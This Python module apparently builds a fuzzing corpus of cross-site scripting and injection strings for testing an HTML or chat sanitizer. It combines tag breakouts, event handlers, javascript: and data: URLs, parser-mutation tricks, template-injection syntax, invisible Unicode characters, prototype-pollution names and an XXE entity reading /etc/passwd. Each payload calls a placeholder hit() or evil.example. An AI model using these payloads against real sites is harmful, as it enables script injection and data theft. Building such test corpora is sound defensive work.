"""Texts that would run if a page ever took text for anything else; each calls hit() or leads to evil.example.

Made from parts: ways out of where a text may stand, elements, handlers, addresses and what wraps them; and what cannot
be made so: texts that a parser changes, templates, characters that look like nothing, names that every object has.
"""

from __future__ import annotations

from itertools import cycle

CLOSERS = ["", '">', "'>", "-->", "</textarea>", "</script>", "</title></style>", "]]>"]
ELEMENTS = [
    "img", "svg", "iframe", "video", "audio", "body", "input", "details", "marquee", "math", "object", "embed",
    "form", "style", "script", "link", "meta", "base", "textarea", "title", "template", "noscript", "xmp",
    "plaintext", "a", "button", "select", "table", "dialog", "frameset"
]  # fmt: skip
HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "onpageshow",
    "onscroll",
    "onauxclick",
]
ADDRESSES = [
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    " javascript:hit()",
    "javascript://example.org/%0ahit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "\\x6aavascript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit()>",
    "vbscript:hit()",
    "blob:http://evil.example/1",
    "file:///etc/passwd",
    "filesystem:http://evil.example/temporary/x",
    "view-source:http://evil.example/",
    "//evil.example/x.js",
    "http://evil.example/x.png",
    'https://evil.example/?"onmouseover=hit()//',
    "https://evil.example/'onclick='hit()",
    "https://user:hit()@evil.example/",
    "mailto:a@evil.example?subject=<script>hit()</script>",
    "irc://evil.example/#<img/src=x/onerror=hit()>",
]
WRAPPERS = [
    "{}",
    "<{}>",
    "<a href='{}'>x</a>",
    '<iframe src="{}"></iframe>',
    "<svg><a xlink:href='{}'><text>x</text></a></svg>",
    "[x]({})",
    "![x]({})",
    "<form action={}><button>x</button></form>",
    "<style>@import '{}'</style>",
]
CHANGED_BY_PARSERS = [
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style></annotation-xml></math>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:hit() /><a id=x><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=hit()>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='x' onerror='hit()'/></svg>#x\">",
    "<template shadowrootmode=open><img src=x onerror=hit()></template>",
    '<xmp><p title="</xmp><svg/onload=hit()>',
    '<textarea><img title="</textarea><img src onerror=hit()>">',
    "<select><template><img src=x onerror=hit()></template></select>",
    "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml-stylesheet href='javascript:hit()'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&lt;img src=x onerror=hit()&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&amp;lt;script&amp;gt;hit()",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()//",
    "<img/src=`x`onerror=hit()>",
    "<img src=x:x onerror\x0b=hit()>",
    "<<img src=x onerror=hit()>>",
    "<a id=app><a id=app name=hit href=x>",
    "<form id=messages><input id=attributes name=innerHTML>",
    "<base href=//evil.example/><script src=main.js></script>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example/x></object>",
    "<img srcset='//evil.example/1 1x, //evil.example/2 2x'>",
    "<video poster=//evil.example/x.png>",
    '<div style="background:url(//evil.example/x)">',
    "<p style='animation-name:x' onanimationend=hit()>",
]
TEMPLATES = [
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "#{hit()}",
    "<%= hit() %>",
    "{%if hit()%}",
    "[[${hit()}]]",
    "@{hit()}",
    "';hit();//",
    '";hit();//',
    "\\';hit();//",
    "*/hit()/*",
    "-hit()-",
    "${`${hit()}`}",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+hit()//'>",
    "expression(hit())",
    "$& $1 $` $' $$",
]
STRANGE_CHARACTERS = [
    "\u202e<img src=x onerror=hit()>",
    "\u2066<script>hit()</script>\u2069",
    "\u200f\u200e<svg onload=hit()>",
    "\ufeff<script>hit()</script>",
    "<\u200bscript>hit()</script>",
    "\u2028<script>hit()</script>\u2029",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u00ad\u034f\u061c<img src=x onerror=hit()>",
    "<img src=x onerror=hit()>\U000e0001\U000e0041",
    "a" + "\u0301" * 40 + "<svg onload=hit()>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467<img src=x onerror=hit()>",
    "\x1b[31m<script>hit()</script>",
    "\x02<b onclick=hit()>\x0f",
    "\x0304,08<font color=red onclick=hit()>",
    "\x04ff0000<i onclick=hit()>",
    "\x11<code onclick=hit()>",
    "\x7f\x85\x9f<script>hit()</script>",
    "\ufffe\uffff<script>hit()</script>",
    "\u0130\u0131\u017f\u212a<img src=x onerror=hit()>",
    "\u3000\u00a0\u2003<script>hit()</script>",
]
NAMES = [
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "isPrototypeOf",
    "__defineGetter__", "__lookupSetter__", "watch", "then", "toJSON", "length", "name", "caller", "arguments",
    "innerHTML", "outerHTML", "nodeName", "body", "forms", "location", "document", "window", "undefined", "null",
    "NaN", "true"
]  # fmt: skip


def payloads() -> list[str]:
    """All of them, none twice, each without spaces at its ends."""
    handlers = cycle(HANDLERS)
    elements = [
        f"{closer}<{element} src=x {next(handlers)}=hit() autofocus tabindex=1>hit()</{element}>"
        for element in ELEMENTS
        for closer in CLOSERS
    ]
    addresses = [wrapper.format(address) for address in ADDRESSES for wrapper in WRAPPERS]
    others = [*CHANGED_BY_PARSERS, *TEMPLATES, *STRANGE_CHARACTERS, *NAMES]
    return list(dict.fromkeys(text.strip() for text in [*elements, *addresses, *others]))


NICKS = [*NAMES, "a]onload`hit", "{{hit}}", "\\x3cimg", "[img|onerror]", "`hit`", "^_^-hit", "|hit|"]
"""Names that IRC allows."""
